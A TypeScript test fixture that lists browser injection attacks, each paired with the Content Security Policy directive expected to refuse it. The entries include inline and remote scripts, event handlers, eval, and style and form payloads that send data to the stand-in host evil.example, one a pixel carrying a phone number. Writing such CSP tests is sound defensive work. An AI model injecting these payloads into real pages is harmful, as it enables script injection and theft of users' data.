/** What the browser says of something that a policy refused. */
export interface Violation {
  directive: string;
  disposition: string;
}

/** Something that an attacker who can write into a page would try. */
interface Attack {
  what: string;
  /** The directive that has to refuse it. */
  directive: string;
  /** Runs in the page; sets `window.hacked` or asks evil.example where it works. */
  attack: () => void;
}

// Each is sent to the page as its source, so none can share code with another. What a tool
// evaluates in a page is exempt from the policy until the next task, hence the time-outs.
export const attacks: Attack[] = [
  {
    what: 'an inline script',
    directive: 'script-src-elem',
    attack: () => {
      const script = document.createElement('script');
      script.textContent = 'window.hacked = 1';
      document.body.append(script);
    },
  },
  {
    what: 'a script of another host',
    directive: 'script-src-elem',
    attack: () => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/steal.js';
      document.body.append(script);
    },
  },
  {
    what: 'a script in a data address',
    directive: 'script-src-elem',
    attack: () => {
      const script = document.createElement('script');
      script.src = 'data:text/javascript,window.hacked=1';
      document.body.append(script);
    },
  },
  {
    what: 'an event handler in markup',
    directive: 'script-src-attr',
    attack: () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="hacked = 1">');
    },
  },
  {
    what: 'a javascript: link',
    directive: 'script-src-elem',
    attack: () => {
      const link = document.createElement('a');
      link.href = 'javascript:void(window.hacked = 1)';
      document.body.append(link);
      link.click();
    },
  },
  {
    what: 'eval',
    directive: 'script-src',
    attack: () => {
      setTimeout(() => {
        try {
          (0, eval)('window.hacked = 1');
        } catch {
          // Refused: what is wanted.
        }
      });
    },
  },
  {
    what: 'a function from text',
    directive: 'script-src',
    attack: () => {
      setTimeout(() => {
        try {
          new Function('window.hacked = 1')();
        } catch {
          // Refused: what is wanted.
        }
      });
    },
  },
  {
    what: 'a style element',
    directive: 'style-src-elem',
    attack: () => {
      const style = document.createElement('style');
      style.textContent = '@import "https://evil.example/keys.css"; body { display: none }';
      document.head.append(style);
    },
  },
  {
    what: 'a style in markup',
    directive: 'style-src-attr',
    attack: () => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<p style="background: url(https://evil.example/a.png)">x</p>',
      );
    },
  },
  {
    what: 'a frame',
    directive: 'frame-src',
    attack: () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
    },
  },
  {
    what: 'a form that posts elsewhere',
    directive: 'form-action',
    attack: () => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/phones';
      form.method = 'post';
      document.body.append(form);
      form.submit();
    },
  },
  {
    what: 'a base that moves every link',
    directive: 'base-uri',
    attack: () => {
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.append(base);
    },
  },
  {
    what: 'a plug-in',
    directive: 'object-src',
    attack: () => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<object data="https://evil.example/"></object>',
      );
    },
  },
  {
    what: 'a call to another host',
    directive: 'connect-src',
    attack: () => {
      setTimeout(() => void fetch('https://evil.example/').catch(() => undefined));
    },
  },
  {
    what: 'a picture that tells another host',
    directive: 'img-src',
    attack: () => {
      new Image().src = 'https://evil.example/pixel.gif?phone=2145550123';
    },
  },
  {
    what: 'a worker from text',
    directive: 'worker-src',
    attack: () => {
      const source = URL.createObjectURL(new Blob(['postMessage(1)']));
      new Worker(source).onmessage = () => Object.assign(window, { hacked: 1 });
    },
  },
];
